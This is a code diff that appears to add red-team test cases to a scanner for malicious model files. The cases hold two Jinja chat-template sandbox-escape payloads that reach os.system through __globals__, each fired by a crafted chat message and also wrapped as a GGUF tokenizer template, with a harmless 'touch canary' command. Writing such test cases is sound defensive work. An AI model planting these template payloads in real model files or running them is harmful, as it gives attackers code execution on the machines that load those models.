@@ -513,6 +513,7 @@ def malicious_cases() -> list[Case]:
     cases.extend(template_round7_cases())  # red team round 7 on chat templates (block at the end of this file)
     cases.extend(template_round8_cases())  # red team round 8 on chat templates (block at the end of this file)
     cases.extend(template_round9_cases())  # red team round 9 on chat templates (block at the end of this file)
+    cases.extend(template_round10_cases())  # red team round 10 on chat templates (block at the end of this file)
     return cases
 
 
@@ -1088,3 +1089,37 @@ def template_round9_cases() -> list[Case]:
              chat=TEMPLATE_ROUND9_CHAT_4),
     ]
 # ======== END red team round 9 on chat templates ========================================================
+
+
+# ======== BEGIN red team round 10 on chat templates (helper tplfix10) =====================================
+# tests/test_templates_round10.py. A1 (classes A + B + C): a macro name with a dead loop binding read as render
+# data and keyed by chat (m.__getstate__), handed in by caller= and read back by caller(), then .get(k) with a chat
+# key (the Environment), then namespace attributes named index/count called (env.getattr x3, then os.system).
+# D1 (class D): ``loop`` outside any for loop is the client's render argument, yet loop.index was a number.
+TEMPLATE_ROUND10_A1 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- macro m() %}{% endmacro -%}\n{%- for m in [] %}{% endfor -%}\n{%- macro step(d, k2, k3, k4, k5, k6) -%}\n{%- set ns = namespace(index=none, count=none) -%}\n{%- set ns.index = d.get(k2).getattr -%}\n{%- set a1 = ns.index(lipsum, k3) -%}\n{%- set a2 = ns.index(a1, k4) -%}\n{%- set ns.count = ns.index(a2, k5) -%}\n{{- ns.count(k6) -}}\n{%- endmacro -%}\n{%- macro run(k2, k3, k4, k5, k6) -%}{{ step(caller(), k2, k3, k4, k5, k6) }}{%- endmacro -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- if p|length > 6 -%}{{ run(p[2], p[3], p[4], p[5], p[6], caller=m[p[1]]) }}{%- endif -%}\n"
+TEMPLATE_ROUND10_D1 = '{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if loop is defined and loop is mapping -%}\n{%- set c = [(messages|last).content] -%}\n{{- c.sort(key=cycler[loop.index][loop.index0].os.system) -}}\n{%- endif -%}\n'
+TEMPLATE_ROUND10_A1_CHAT = json.dumps(
+    {"messages": [{"role": "user", "content": "x|__getstate__|_environment|__globals__|os|system|touch canary"}]})
+TEMPLATE_ROUND10_D1_CHAT = json.dumps({"messages": [{"role": "user", "content": "touch canary"}],
+                                       "loop": {"index": "__init__", "index0": "__globals__"}})
+
+
+def template_round10_cases() -> list[Case]:
+    """Round 10 on chat templates: both PoCs, as .jinja and as GGUF, each fired by fire.py's plain render."""
+    return [
+        Case("template_r10_macro_caller_namespace_hops", "5",
+             "A+B+C: macro object keyed by chat, caller= / caller() launder it, ns.index(...) calls env.getattr "
+             "(fired by that chat)", "jinja", "WW-TPL-002", "chat_template.jinja", TEMPLATE_ROUND10_A1.encode(),
+             chat=TEMPLATE_ROUND10_A1_CHAT),
+        Case("gguf_template_r10_macro_caller_namespace_hops", "5",
+             "A+B+C: the same as a GGUF tokenizer.chat_template, fired by the trigger chat", "gguf_template",
+             "WW-TPL-002", "model.gguf", _gguf_template(TEMPLATE_ROUND10_A1.encode()), chat=TEMPLATE_ROUND10_A1_CHAT),
+        Case("template_r10_free_loop_number_keys", "5",
+             "D: loop outside a for loop is a render argument; cycler[loop.index][loop.index0].os.system "
+             "(fired by a chat passing loop)", "jinja", "WW-TPL-002", "chat_template.jinja",
+             TEMPLATE_ROUND10_D1.encode(), chat=TEMPLATE_ROUND10_D1_CHAT),
+        Case("gguf_template_r10_free_loop_number_keys", "5",
+             "D: the same as a GGUF tokenizer.chat_template, fired by the trigger chat", "gguf_template",
+             "WW-TPL-002", "model.gguf", _gguf_template(TEMPLATE_ROUND10_D1.encode()), chat=TEMPLATE_ROUND10_D1_CHAT),
+    ]
+# ======== END red team round 10 on chat templates =======================================================
